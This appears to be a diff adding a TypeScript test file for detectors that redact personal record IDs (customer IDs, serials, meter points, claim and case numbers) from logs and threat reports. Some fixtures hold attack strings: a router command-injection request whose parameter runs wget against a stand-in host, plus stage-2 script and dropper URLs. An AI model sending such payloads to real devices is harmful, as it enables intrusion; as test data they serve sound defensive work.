@@ -1,0 +1,75 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { Detector } from './detectors/finding';
+import { networkDetectors } from './detectors/network';
+import { recordIdDetectors } from './detectors/record-ids';
+import { referenceDetectors } from './detectors/references';
+
+const ctx = { isProtected: () => false, internalDomains: [], netblocks: [] } as unknown as Parameters<Detector>[1];
+const spans = (detectors: [string, Detector][], text: string) =>
+  detectors.flatMap(([, d]) => d(text, ctx)).filter((f) => !f.keep).map((f) => `${f.kind}:${text.slice(f.start, f.end)}`);
+const ids = (text: string) => spans(recordIdDetectors, text);
+
+describe('ids named by the layout of a record', () => {
+  it('takes the customer and device segments of an MQTT topic or a REST path', () => {
+    assert.deepEqual(ids('plant7/cust/C-4471902/dev/HX20B7731045/status {"t":21.5}'), ['CUSTOMER-ID:C-4471902', 'SERIAL:HX20B7731045']);
+    assert.deepEqual(ids('GET /api/v2/customers/88120457/devices/ZT-0042-9981 returned 200'), ['CUSTOMER-ID:88120457', 'SERIAL:ZT-0042-9981']);
+  });
+  it('leaves device files, versions, hashes and the path of a URL with its host alone', () => {
+    assert.deepEqual(ids('wrote /dev/ttyUSB0 and /dev/mmcblk0p1; node/v18.17.0 runtime'), []);
+    assert.deepEqual(ids('stage 2 from http://cdn-upd.example/dev/58213377/x.sh'), []);
+    assert.deepEqual(ids('dropper at /devices/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/run'), []);
+  });
+  it('takes a metering point under its key, not a short number or a hash under another key', () => {
+    assert.deepEqual(ids('{"v":229.8,"mp":"DE0004711234500000000000000012345","kw":1.2}'), ['METER-POINT:DE0004711234500000000000000012345']);
+    assert.deepEqual(ids('malo_id=50123456789 cups=ES0031405123456789JN0F'), ['METER-POINT:50123456789', 'METER-POINT:ES0031405123456789JN0F']);
+    assert.deepEqual(ids('{"mp": 3, "port": 8883, "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}'), []);
+  });
+  it('takes the sender id of a messenger export', () => {
+    assert.deepEqual(ids('{"id": 4411, "from": "Ana", "from_id": "user5120334917", "text": "hi"}'), ['USER:user5120334917']);
+    assert.deepEqual(ids('"actor_id": "channel1409928811", "reply_to_message_id": 4410'), ['USER:channel1409928811']);
+  });
+  it('takes a claim number after its label in several languages, not a catalogue id or a year', () => {
+    assert.deepEqual(ids('Claim CLM-2023-551902 opened for the stolen car'), ['CLAIM-ID:CLM-2023-551902']);
+    assert.deepEqual(ids('Schadennummer: 40-SH-8812734, Versicherung informiert'), ['CLAIM-ID:40-SH-8812734']);
+    assert.deepEqual(ids('número de siniestro 7730918842'), ['CLAIM-ID:7730918842']);
+    assert.deepEqual(ids('the vendor claims CVE-2024-3400 is fixed; claim 2024 was rejected'), []);
+  });
+  it('takes police and prosecution case numbers by their layout', () => {
+    assert.deepEqual(ids('Az. 412 Js 18733/24\nGeschädigte: …'), ['CASE-ID:Az. 412 Js 18733/24']);
+    assert.deepEqual(ids('КУСП № 11872 от 03.04.2024; KUSP-650299'), ['CASE-ID:КУСП № 11872', 'CASE-ID:KUSP-650299']);
+    assert.deepEqual(ids('Boletim BO-20931874 registrado'), ['CASE-ID:BO-20931874']);
+    assert.deepEqual(ids('port 443 open, BOOT-2024 image, bo 12'), []);
+  });
+  it('takes a serial in a note slot or as a device certificate common name', () => {
+    assert.deepEqual(ids('Bemerkung: KX81T4410927 / IMEI follows'), ['SERIAL:KX81T4410927']);
+    assert.deepEqual(ids('备注: 70QRD55120934'), ['SERIAL:70QRD55120934']);
+    assert.deepEqual(ids('subject CN=ML22F0917734, O=Acme Meters, OU=gateway'), ['SERIAL:ML22F0917734']);
+    assert.deepEqual(ids('S/N printed: SN-4A77-2190-0312'), ['SERIAL:SN-4A77-2190-0312']);
+  });
+  it('keeps ATT&CK ids, CVEs, hashes and attacker certificates in those slots', () => {
+    assert.deepEqual(ids('Note: T1059.001 via CVE-2023-20198; remark: d41d8cd98f00b204e9800998ecf8427e'), []);
+    assert.deepEqual(ids('issuer CN=update-cdn.example, subject CN=Major Cobalt Strike'), []);
+    assert.deepEqual(ids('Note: 10.0.19045 build, comment: v2.4.11'), []);
+  });
+});
+
+describe('request targets of an access log', () => {
+  const net = (text: string) => spans(networkDetectors, text).filter((s) => s.startsWith('PARAM:'));
+  it('removes per-user parameters of the logging server\'s own request line', () => {
+    const line = '198.51.100.4 - - [09/May/2024:02:11:09 +0000] "GET /portal/activate?sid=5f2b9c0e7d1a43b8a6e0c4d2b1f39a77&lang=de HTTP/1.1" 302 0';
+    assert.deepEqual(net(line), ['PARAM:5f2b9c0e7d1a43b8a6e0c4d2b1f39a77']);
+  });
+  it('keeps the exploit parameters an attacker sent and the request without a query', () => {
+    assert.deepEqual(net('"GET /cgi-bin/luci?cmd=wget%20http://x.example/m HTTP/1.1" 200'), []);
+    assert.deepEqual(net('"POST /boaform/admin/formLogin HTTP/1.1" 404'), []);
+  });
+});
+
+describe('trouble tickets of a NOC', () => {
+  it('reads TT# and NOC- ticket ids, not a port or an issue number of a public tracker', () => {
+    const refs = (text: string) => spans(referenceDetectors, text);
+    assert.deepEqual(refs('TT#35120987 opened; see NOC-81022'), ['CASE-ID:TT#35120987', 'CASE-ID:NOC-81022']);
+    assert.deepEqual(refs('tcp/8883 and upstream issue #4412'), []);
+  });
+});
